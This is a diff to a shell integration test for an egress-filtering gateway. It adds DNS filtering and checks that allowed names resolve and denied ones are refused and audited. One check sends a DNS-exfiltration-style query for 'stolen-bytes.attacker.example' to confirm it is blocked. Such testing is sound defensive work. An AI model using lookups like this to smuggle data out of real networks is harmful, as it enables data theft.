@@ -25,7 +25,10 @@ ns origin ip -6 addr add fd77:2::2/64 dev o0 nodad; ns origin ip -6 addr add fd7
 ns origin ip -6 addr add fd77:2::4/64 dev o0 nodad
 ns origin ip -6 route add default via fd77:2::1
 
+ns origin ip addr add 10.77.2.53/24 dev o0
 origin https 10.77.2.2 443 "$work/cert.pem" "$work/key.pem" A "$work/big"
+# The upstream resolver the proxy asks: ours, answering 10.77.2.2 and writing down every name asked.
+origin dns 10.77.2.53 10.77.2.2 "$work/dns-asked"
 origin https 10.77.2.3 443 "$work/cert.pem" "$work/key.pem" B "$work/big"
 origin tcp 10.77.2.3 22 "$work/reached"
 origin https fd77:2::2 443 "$work/cert.pem" "$work/key.pem" A6 "$work/big"
@@ -41,6 +44,9 @@ config() { # config MISMATCH
 tls = "[::]:3129"
 plain = "[::]:3130"
 catch_all = "[::]:3131"
+dns = "[::]:3053"
+[resolve]
+upstream = ["10.77.2.53"]
 [audit]
 path = "$work/audit.jsonl"
 [safety]
@@ -54,6 +60,11 @@ original_dst_mismatch = "$1"
 name = "azureml"
 action = "allow"
 hosts = ["ml.azure.com"]
+ports = [443]
+[[rule]]
+name = "dns-test"
+action = "allow"
+hosts = ["answer.dnstest.example"]
 ports = [443]
 [[rule]]
 name = "udp-v6"
@@ -99,6 +110,14 @@ check "IPv6: port 22 is audited with its original destination" audit_has '"reaso
 ns client bash -c 'echo quic > /dev/udp/10.77.2.2/443' || true
 sleep 0.5
 check "neither port 22 nor UDP 443 reached the origin" [ ! -s "$work/reached" ]
+# DNS: the client asks a resolver of its choice; the gateway redirects port 53 to the DNS filter.
+dig_a() { ns client dig +short +time=3 +tries=1 "@$1" "$2" A; }
+check "DNS: an allowed name is answered, from our upstream" [ "$(dig_a 10.77.2.53 answer.dnstest.example)" = 10.77.2.2 ]
+check "DNS: whichever resolver the client names" [ "$(dig_a 192.0.2.1 answer.dnstest.example)" = 10.77.2.2 ]
+check "DNS: a refused name gets REFUSED" bash -c "ip netns exec ep-client dig +time=3 +tries=1 @10.77.2.53 stolen-bytes.attacker.example A | grep -q 'status: REFUSED'"
+check "DNS: and the upstream never heard of it" bash -c "! grep -q attacker '$work/dns-asked'"
+check "DNS: the question is audited" audit_has '"event":"dns","client":"10.77.1.2:[0-9]*","name":"stolen-bytes.attacker.example","type":"A","decision":"deny","reason":"no_rule"'
+check "DNS: over TCP too" [ "$(ns client dig +short +tcp +time=3 +tries=1 @10.77.2.53 answer.dnstest.example A)" = 10.77.2.2 ]
 for _ in 1 2 3; do
   ns client bash -c 'echo allowed > /dev/udp/fd77:2::4/5000; echo other > /dev/udp/fd77:2::3/5000' || true
 done
